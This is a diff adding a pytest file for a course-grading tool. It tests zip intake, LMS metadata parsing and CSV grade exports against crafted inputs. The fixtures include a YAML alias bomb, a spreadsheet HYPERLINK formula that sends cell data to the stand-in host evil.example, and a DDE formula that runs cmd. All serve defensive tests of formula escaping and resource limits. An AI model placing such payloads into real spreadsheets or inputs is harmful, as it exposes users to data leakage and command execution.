@@ -1,0 +1,146 @@
+"""Attacks on the LMS intake and exports: damaged and crafted zips, crafted LMS names and metadata,
+and student names that a spreadsheet would run as formulas."""
+from __future__ import annotations
+
+import csv
+import io
+import re
+import resource
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from grader.gradebook import Gradebook
+from grader.lms import blackboard
+from grader.lms.archive import ArchiveError, extract_zip
+from grader.lms.attempts import FileRef
+from grader.lms.export import export_grades
+from grader.lms.intake import IntakeRow
+from grader.model import ItemResult, SubmissionResult
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+# -- damaged and crafted archives ----------------------------------------------------------------
+
+def test_an_entry_with_damaged_compressed_data_is_refused_and_the_others_extracted(tmp_path):
+    """zlib's own error (not an OSError) escaped the extraction: one damaged entry stopped the intake
+    of the whole class with a traceback."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("a_1_2_nb.ipynb", bytes(range(256)) * 400)
+        zf.writestr("b_3_4_nb.ipynb", b"{}" * 5000)
+    data = bytearray(buf.getvalue())
+    start = 30 + len("a_1_2_nb.ipynb")  # the first entry's compressed bytes follow its local header
+    data[start:start + 6] = b"\xff" * 6
+    (tmp_path / "dl.zip").write_bytes(bytes(data))
+    got = extract_zip(tmp_path / "dl.zip", tmp_path / "x")
+    assert [f[0] for f in got.files] == ["b_3_4_nb.ipynb"]
+    assert [name for name, _ in got.refused] == ["a_1_2_nb.ipynb"]
+    assert got.refused[0][1].startswith("it is damaged (")
+    assert sorted(p.name for p in (tmp_path / "x").iterdir()) == ["b_3_4_nb.ipynb"]
+
+
+def test_a_name_flagged_utf8_that_is_not_is_a_clear_error(tmp_path):
+    """Python's zipfile raises UnicodeDecodeError while listing such an archive; the TA saw a traceback."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("AAAA_1_2_nb.ipynb", b"{}")
+    data = bytearray(buf.getvalue().replace(b"AAAA", b"\xff\xfe\xfd\xfc"))
+    for sig, flag_at in ((b"PK\x03\x04", 7), (b"PK\x01\x02", 9)):  # bit 11 (UTF-8) of both headers
+        data[data.find(sig) + flag_at] |= 0x08
+    (tmp_path / "dl.zip").write_bytes(bytes(data))
+    with pytest.raises(ArchiveError) as err:
+        extract_zip(tmp_path / "dl.zip", tmp_path / "x")
+    assert str(err.value) == ("dl.zip has an entry whose name is marked as UTF-8 but is not; re-create the zip "
+                              "with a tool that writes UTF-8 names (or download it from the LMS again).")
+
+
+def test_a_blackboard_name_with_an_impossible_time_is_ignored_not_fatal(tmp_path):
+    good = tmp_path / "HW_bob_attempt_2026-12-01-10-00-00_nb.ipynb"
+    bad = tmp_path / "HW_eve_attempt_2026-99-99-99-99-99_nb.ipynb"
+    for p in (good, bad):
+        p.write_text("{}")
+    got = blackboard.parse(tmp_path, [FileRef(good.name, good), FileRef(bad.name, bad)])
+    assert [a.key for a in got.attempts] == ["bob"]
+    assert got.ignored == [(bad.name, "its time 2026-99-99-99-99-99 is not a date and time; not a Blackboard "
+                                      "attempt as Blackboard names them")]
+
+
+def test_gradescope_metadata_with_aliases_cannot_blow_up(tmp_path):
+    """YAML aliases are references: 349 bytes of metadata held a name of half a billion characters once
+    turned into text (20 s, 0.5 GB; one level more and the memory is gone). Only text and numbers are
+    read as ids and times; the run is capped at 10 s of CPU and 1 GB of memory (it needs well under)."""
+    y = "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
+    prev = "a"
+    for k in "bcdefgh":
+        y += f"{k}: &{k} [" + ",".join([f"*{prev}"] * 10) + "]\n"
+        prev = k
+    y += "sub1:\n  :submitters:\n    - :name: *h\n      :sid: *h\n      :email: s@example.edu\n  :created_at: *h\n"
+    (tmp_path / "submission_metadata.yml").write_text(y)
+    (tmp_path / "sub1").mkdir()
+    (tmp_path / "sub1" / "nb.ipynb").write_text("{}")
+    code = ("import resource, sys\n"
+            "resource.setrlimit(resource.RLIMIT_CPU, (10, 10))\n"
+            "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
+            "from pathlib import Path\n"
+            "from grader.lms import gradescope\n"
+            "from grader.lms.attempts import FileRef\n"
+            f"root = Path({str(tmp_path)!r})\n"
+            "refs = [FileRef('submission_metadata.yml', root / 'submission_metadata.yml'),"
+            " FileRef('sub1/nb.ipynb', root / 'sub1' / 'nb.ipynb')]\n"
+            "d = gradescope.parse(root, refs)\n"
+            "a = d.attempts[0]\n"
+            "print(a.key, sorted(a.ids.items()), a.submitted_at)\n")
+    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout.strip() == ("s@example.edu [('email', 's@example.edu'), ('submission_id', 'sub1')] None")
+
+
+# -- formulas in exported CSV files ---------------------------------------------------------------
+
+HOSTILE_NAMES = {"eve": ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "Eve"),
+                 "mal": ("@SUM(1+1)*cmd|' /C calc'!A0", "Mal"),
+                 "pat": ("+1-2", "-Pat"),
+                 "tab": ("\tTab", "\rCarr")}
+
+
+def _hostile_gradebook(out: Path) -> None:
+    rows = []
+    with Gradebook(out / "gradebook.sqlite") as gb:
+        gb.set_meta(assignment="nndl-ch6", lang="en")
+        for n, (student, (last, first)) in enumerate(sorted(HOSTILE_NAMES.items())):
+            ids = {"lms_id": f"-{100 + n}", "participant": f"{200 + n}", "login": f"={student}()",
+                   "name": f"{first} {last}"}
+            rows.append(IntakeRow(student, "mapped", {"lms": "canvas", "ids": ids, "roster": {
+                "name": f"{first} {last}", "sortable_name": f"{last}, {first}", "email": f"@{student}@x.edu"}}))
+            items = [ItemResult(item="free_6_3", kind="free", max_score=100.0, status="pending_manual")]
+            gb.put(SubmissionResult(student=student, status="graded", assignment="nndl-ch6", version="1",
+                                    items=items), "k")
+            gb.set_manual(student, "free_6_3", 50 + n)
+        gb.set_intake(rows, {"lms": "canvas"})
+
+
+@pytest.mark.parametrize("fmt", ["canvas", "moodle", "blackboard", "csv"])
+def test_no_exported_cell_starts_a_formula(tmp_path, fmt):
+    """Every text cell a spreadsheet would run (starting with = + - @, a tab or a carriage return) gets a
+    leading apostrophe, as `rnngrade manual --export` does; numbers, negative ones too, stay numbers."""
+    _hostile_gradebook(tmp_path)
+    dest = tmp_path / f"{fmt}.csv"
+    summary = export_grades(tmp_path, fmt, dest, column="=NNDL()")
+    assert summary.written == 4
+    cells = [c for row in csv.reader(io.StringIO(dest.read_text(encoding="utf-8-sig"))) for c in row]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
+    text = "\n".join(cells)
+    if fmt in ("canvas", "blackboard"):
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in text
+        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
+    if fmt in ("canvas", "blackboard"):  # the column's title, given with --column, is a cell too
+        assert "'=NNDL()" in cells
+    if fmt == "canvas":  # a number-shaped id is kept as it is (Canvas matches rows by it)
+        assert "-100" in cells
